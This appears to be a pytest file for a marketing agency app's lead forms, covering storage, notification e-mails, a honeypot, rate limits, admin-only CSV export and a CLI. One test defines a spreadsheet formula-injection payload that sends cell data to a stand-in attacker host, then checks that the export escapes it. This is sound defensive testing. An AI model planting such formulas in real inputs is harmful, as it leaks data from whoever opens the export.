"""Lead forms: stored with their source, the agency e-mailed, bots and floods stopped;
admins list and export them."""

from __future__ import annotations

import csv
import io
import subprocess
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from agency.core import mail
from agency.core.web import job_runner
from agency.modules.auth.service import admin as auth_admin
from agency.modules.leads.models import Lead
from agency.modules.leads.schemas import LeadOut
from agency.modules.leads.service import leads as lead_service
from tests.conftest import run_agency
from tests.helpers.http import HEADERS, call, sign_up


@pytest.mark.parametrize(
    ("source", "confirmation"),
    [
        (
            "ai-automation-strategy-call",
            "Thank you! We'll contact you within 24 hours to schedule your free consultation.",
        ),
        (
            "ai-onboarding-audit",
            "Thank you! We'll contact you within 24 hours to schedule your free onboarding audit.",
        ),
        (
            "clinic-consultation",
            "Thank you! We'll contact you within 24 hours to schedule your free consultation.",
        ),
        (
            "sales-funnel-teardown",
            "Thank you! We'll contact you within 24 hours to schedule your free consultation.",
        ),
    ],
)
async def test_email_forms_store_the_lead_and_tell_the_agency(
    app: Any, source: str, confirmation: str
) -> None:
    client = app.test_client()
    status, data = await call(
        client, "post", "/api/leads", {"source": source, "email": "Owner@Clinic.example"}
    )
    assert (status, data) == (201, {"message": confirmation, "newsletter": None})
    lead = await Lead.get()
    assert (lead.source, lead.email) == (source, "owner@clinic.example")
    await job_runner(app.app).drain()
    [notice] = await mail.OutboundMail.all()
    assert notice.to == "team@agency.test" and "owner@clinic.example" in notice.subject


async def test_free_preview_needs_every_field(app: Any) -> None:
    client = app.test_client()
    for missing in ("name", "email", "domain"):
        body = {
            "source": "free-preview",
            "name": "Ann",
            "email": "ann@example.com",
            "domain": "ann-homes.com",
            missing: "",
        }
        status, data = await call(client, "post", "/api/leads", body)
        assert (status, data["error"]["message"]) == (400, "Please fill in all fields")
    status, data = await call(
        client,
        "post",
        "/api/leads",
        {
            "source": "free-preview",
            "name": "Ann",
            "email": "ann@example.com",
            "domain": "ann-homes.com",
        },
    )
    assert status == 201
    lead = await Lead.get()
    assert (lead.name, lead.domain) == ("Ann", "ann-homes.com")


async def test_honeypot_is_thanked_and_dropped(app: Any) -> None:
    status, data = await call(
        app.test_client(),
        "post",
        "/api/leads",
        {
            "source": "clinic-consultation",
            "email": "bot@spam.example",
            "company_website": "http://spam.example",
        },
    )
    assert status == 201 and data["message"].startswith("Thank you!")
    assert await Lead.all().count() == 0


async def test_unknown_form_and_missing_email(app: Any) -> None:
    client = app.test_client()
    status, data = await call(client, "post", "/api/leads", {"source": "x", "email": "a@b.co"})
    assert status == 400 and data["error"]["message"] == "This form is not known."
    status, data = await call(client, "post", "/api/leads", {"source": "clinic-consultation"})
    assert status == 400 and data["error"]["message"] == "Please enter your email address"


async def test_floods_are_limited_per_address(app: Any) -> None:
    client = app.test_client()
    body = {"source": "clinic-consultation", "email": "a@b.co"}
    for _ in range(10):
        assert (await call(client, "post", "/api/leads", body))[0] == 201
    assert (await call(client, "post", "/api/leads", body))[0] == 429


async def test_only_admins_see_and_export_leads(app: Any) -> None:
    client = app.test_client()
    await call(client, "post", "/api/leads", {"source": "clinic-consultation", "email": "a@b.co"})
    await call(client, "post", "/api/leads", {"source": "ai-onboarding-audit", "email": "c@d.co"})
    assert (await call(client, "get", "/api/admin/leads"))[0] == 401
    await sign_up(client)
    assert (await call(client, "get", "/api/admin/leads"))[0] == 403
    await auth_admin.set_role("ada@example.com", "admin")
    status, data = await call(client, "get", "/api/admin/leads?source=clinic-consultation")
    assert status == 200 and [lead["email"] for lead in data["leads"]] == ["a@b.co"]
    assert data["leads"][0]["source_label"] == "Clinic consultation"
    response = await client.get("/api/admin/leads.csv", headers=HEADERS)
    text = (await response.get_data()).decode()
    assert response.headers["Content-Type"].startswith("text/csv")
    assert text.splitlines()[0] == "created_at,form,email,name,domain,message"
    assert len(text.splitlines()) == 3
    status, data = await call(client, "get", "/api/admin/leads?since=yesterday")
    assert status == 400


fixture_ok = settings(suppress_health_check=[HealthCheck.function_scoped_fixture], max_examples=40)


@fixture_ok
@given(
    body=st.dictionaries(
        st.sampled_from(["source", "email", "name", "domain", "message", "company_website", "x"]),
        st.one_of(st.text(max_size=40), st.integers(), st.none(), st.booleans()),
        max_size=6,
    )
)
async def test_no_input_gives_a_500(app: Any, body: dict[str, Any]) -> None:
    response = await app.test_client().post("/api/leads", json=body, headers=HEADERS)
    assert response.status_code < 500


@pytest.mark.slow  # runs the `agency` command in a subprocess
def test_cli_lists_and_exports(tmp_path: Path) -> None:
    def agency(*args: str) -> subprocess.CompletedProcess[str]:
        result = run_agency(tmp_path, *args)
        assert result.returncode == 0, result.stderr
        return result

    listed = agency("leads", "list", "--source", "free-preview", "--since", "2026-01-01")
    assert "0 lead(s)" in listed.stdout
    agency("leads", "export", "--csv", str(tmp_path / "leads.csv"))
    assert (tmp_path / "leads.csv").read_text().startswith("created_at,form,email")


FORMULA = '=HYPERLINK("http://evil.example/?l="&A1,"click")'


async def test_the_csv_export_neutralises_formulas(app: Any) -> None:
    client = app.test_client()
    lead = {"source": "free-preview", "email": "a@b.co", "name": FORMULA, "domain": "x.com"}
    assert (await call(client, "post", "/api/leads", lead))[0] == 201
    await sign_up(client)
    await auth_admin.set_role("ada@example.com", "admin")
    response = await client.get("/api/admin/leads.csv", headers=HEADERS)
    rows = list(csv.reader(io.StringIO((await response.get_data()).decode())))
    assert rows[1][3] == "'" + FORMULA


@given(st.text(max_size=30))
def test_no_csv_cell_starts_a_formula(text: str) -> None:
    rows = list(
        csv.reader(
            io.StringIO(
                lead_service.to_csv(
                    [
                        LeadOut(
                            id=1,
                            source="free-preview",
                            source_label="Free preview",
                            email=text,
                            name=text,
                            domain=text,
                            message=text,
                            created_at=datetime.now(UTC),
                        )
                    ]
                )
            ),
        )
    )
    for cell in rows[1][2:]:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
        assert lead_service.csv_text(cell) == text  # only single quotes were added
